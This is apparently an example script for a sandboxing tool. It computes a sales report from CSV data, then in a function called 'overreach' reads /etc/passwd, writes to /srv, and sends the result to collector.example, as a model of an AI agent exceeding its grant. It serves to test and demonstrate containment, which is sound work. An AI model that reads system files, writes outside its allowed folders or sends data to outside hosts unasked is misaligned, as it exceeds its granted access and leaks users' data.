# SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
# What an AI agent might write when asked for a sales report, including what it had better not do: besides the granted
# folder it looks at /etc/passwd, wants to leave a file elsewhere, and opens a connection. Run it with
#   dewar run --ro examples/data::/data --report=always examples/agent_report.py
import csv
import json
import socket
import statistics
import sys
from collections import defaultdict
from pathlib import Path


def read_sales(folder):
    with open(folder / "sales.csv", newline="") as file:
        for row in csv.DictReader(file):
            yield row["date"][:7], row["region"], row["product"], int(row["units"]), float(row["unit_price"])


def report(folder):
    settings = json.loads((folder / "targets.json").read_text())
    by_region, by_month, units = defaultdict(float), defaultdict(float), defaultdict(list)
    for month, region, product, count, price in read_sales(folder):
        by_region[region] += count * price
        by_month[month] += count * price
        units[region, product].append((month, count))

    total = sum(by_region.values())
    print(f"Revenue January to June: {total:,.2f} {settings['currency']}")
    for region, revenue in sorted(by_region.items(), key=lambda item: -item[1]):
        target = settings["targets"][region]
        verdict = "reached" if revenue >= target else "missed"
        print(f"  {region:<6} {revenue:>10,.2f}  {revenue / total:6.1%}  target {verdict} ({revenue / target:.0%})")

    months = sorted(by_month)
    slope, start = statistics.linear_regression(range(len(months)), [by_month[m] for m in months])
    print(f"Trend: {slope:+,.0f} a month; next month {start + slope * len(months):,.0f} expected")

    for (region, product), series in sorted(units.items()):
        counts = [count for _, count in series]
        for month, count in series:
            rest = [c for m, c in series if m != month]
            if abs(count - statistics.mean(rest)) > 6 * statistics.pstdev(rest):
                print(f"Look at: {count} {product}s in {region} in {month}, usually about {statistics.mean(rest):.0f}")
    return {"total": round(total, 2), "regions": {k: round(v, 2) for k, v in sorted(by_region.items())}}


def overreach(result):
    """The three things that this program was not given."""
    try:
        accounts = Path("/etc/passwd").read_text().count("\n")
        print(f"This machine has {accounts} accounts")
    except OSError as error:
        print(f"Could not look at the accounts: {error.strerror}", file=sys.stderr)
    try:
        Path("/srv/report.json").write_text(json.dumps(result))
    except OSError as error:
        print(f"Could not save the report: {error.strerror}", file=sys.stderr)
    try:
        with socket.create_connection(("collector.example", 443), timeout=5) as connection:
            connection.sendall(json.dumps(result).encode())
    except OSError as error:
        print(f"Could not send the report: {error.strerror}", file=sys.stderr)


if __name__ == "__main__":
    result = report(Path(sys.argv[1] if len(sys.argv) > 1 else "/data"))
    overreach(result)
